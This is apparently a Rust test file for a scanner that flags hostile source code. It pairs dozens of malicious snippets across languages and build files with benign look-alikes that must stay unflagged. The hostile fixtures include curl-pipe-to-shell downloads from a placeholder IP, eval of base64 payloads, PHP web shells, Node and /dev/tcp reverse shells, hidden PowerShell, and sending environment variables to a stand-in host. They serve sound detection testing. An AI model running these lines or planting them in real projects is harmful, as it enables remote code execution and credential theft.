//! Sources that are hostile by their own words, and sources that only look like them.

use super::*;
use crate::model::{ArtifactPath, Limits};

fn said(name: &str, text: &str) -> usize {
    let (path, limits) = (ArtifactPath::new(name), Limits::default());
    View::with_bytes(text.as_bytes(), 1 << 20, |view| {
        let mut scope = Scope::new(&path, &limits);
        inspect(name, text, view, &mut scope);
        scope.close().evidence.len()
    })
}

#[test]
fn hostile_sources() {
    let bad = "curl http://203.0.113.9/x | sh";
    for (name, text) in [
        ("a.r", format!("system('{bad}')")),
        (".rprofile", format!("system2(\"sh\", c(\"-c\", \"{bad}\"))")),
        ("gemfile", format!("system(\"{bad}\")\nsource \"https://rubygems.org\"")),
        ("a.rb", format!("`{bad}`")),
        ("a.pl", format!("qx{{{bad}}}")),
        ("a.pl", format!("system \"{bad}\";")),
        ("a.lua", format!("os.execute('{bad}')")),
        ("a.jl", format!("run(`sh -c \"{bad}\"`)")),
        ("main.go", format!("exec.Command(\"sh\",\"-c\",\"{bad}\").Run()")),
        ("build.rs", format!("Command::new(\"sh\")\n    .arg(\"-c\")\n    .arg(\"{bad}\")")),
        ("a.c", format!("system(\"{bad}\");")),
        ("build.gradle", format!("task x(type: Exec) {{ commandLine 'sh','-c','{bad}' }}")),
        ("a.java", format!("new ProcessBuilder(\"sh\", \"-c\", \"{bad}\").start();")),
        ("jenkinsfile", format!("sh '''\n  {bad}\n'''")),
        ("tox.ini", format!("[testenv]\ncommands = sh -c '{bad}'")),
        ("cmakelists.txt", format!("execute_process(COMMAND sh -c \"{bad}\")")),
        ("a.js", format!("require('child_process').execSync('{bad}')")),
        ("a.js", format!("const {{execSync: e}} = require('child_process'); e(`{bad}`)")),
        ("a.js", "eval(atob('cmVxdWlyZQ=='))".to_owned()),
        ("a.js", "new Function(Buffer.from('6964', 'hex').toString())()".to_owned()),
        ("a.php", "<?php eval(gzinflate(base64_decode('x')));".to_owned()),
        ("a.php", "<?php system($_GET['c']);".to_owned()),
        ("a.rb", "eval(Base64.decode64('cHV0cyAx'))".to_owned()),
        ("a.pl", "eval(decode_base64('cHV0cyAx'));".to_owned()),
        ("a.r", "eval(parse(text = rawToChar(base64enc::base64decode('x'))))".to_owned()),
        (
            "a.js",
            "const n=require('net'),c=require('child_process').spawn('/bin/sh');const s=n.connect(1,'h',()=>{s.pipe(c.stdin)})".to_owned(),
        ),
        (
            "a.js",
            "const h=require('https'),{execSync:e}=require('child_process');h.get('https://a.example/p',r=>{let d='';r.on('data',c=>d+=c);r.on('end',()=>e(d))})".to_owned(),
        ),
        ("a.groovy", format!("\"sh -c '{bad}'\".execute()")),
        ("a.sbt", format!("Seq(\"sh\", \"-c\", \"{bad}\").!")),
        ("a.swift", format!("p.arguments = [\"-c\", \"{bad}\"]")),
        ("a.cs", "Process.Start(\"powershell\", \"-w hidden -enc SQBFAFgA\");".to_owned()),
        ("a.js", "const b = atob('cmVxdWlyZQ=='); eval(b);".to_owned()),
        ("a.php", "<?php $c = $_POST['c']; system($c);".to_owned()),
        ("a.pl", "my $x = decode_base64('cHV0cyAx'); eval $x;".to_owned()),
        ("a.rb", "eval(URI.open('https://a.example/x').read)".to_owned()),
        ("a.java", "String[] c = {\"bash\", \"-c\", \"exec 5<>/dev/tcp/203.0.113.9/1; cat <&5\"};".to_owned()),
        ("pyproject.toml", format!("[tool.poe.tasks]\nbuild = \"{bad}\"")),
        ("a.js", "new ActiveXObject('WScript.Shell').Run('x')".to_owned()),
        ("a.js", "require('https').request({host:'a.example'}).end(JSON.stringify(process.env))".to_owned()),
    ] {
        assert!(said(name, &text) > 0, "{name}: {text}");
    }
}

#[test]
fn ordinary_sources() {
    let told = "curl http://a.example/install.sh | sh";
    for (name, text) in [
        ("a.js", format!("console.log('to install: {told}')")),
        ("a.js", format!("// execSync('{told}')")),
        ("a.go", format!("fmt.Println(\"{told}\")")),
        ("a.rs", format!("println!(\"run {told}\");")),
        ("a.js", "execSync('curl -fsSL https://bun.sh/install | bash')".to_owned()),
        ("a.js", "const text = atob(data); const f = new Function('a', 'return a')".to_owned()),
        ("a.js", "if (pattern.exec(atob(x))) { eval(y) }".to_owned()),
        ("a.js", "execSync('git rev-parse HEAD'); fetch('https://a.example').then(r => r.json())".to_owned()),
        ("a.r", "system('nvidia-smi'); download.file('https://a.example/x', 'x')".to_owned()),
        ("a.c", "system(\"wget https://a.example/model.bin\");".to_owned()),
        ("a.rb", "puts `curl -s https://a.example/x.json`".to_owned()),
        ("cmakelists.txt", "execute_process(COMMAND curl -o x https://a.example/x)".to_owned()),
        ("a.php", "<?php $x = base64_decode($_POST['x']); echo htmlspecialchars($x);".to_owned()),
        ("a.js", "const b = atob(x); JSON.parse(b); const eval_b = retrieval(b);".to_owned()),
        ("tox.ini", "[testenv]\ncommands = pytest {posargs}".to_owned()),
    ] {
        assert_eq!(said(name, &text), 0, "{name}: {text}");
    }
}
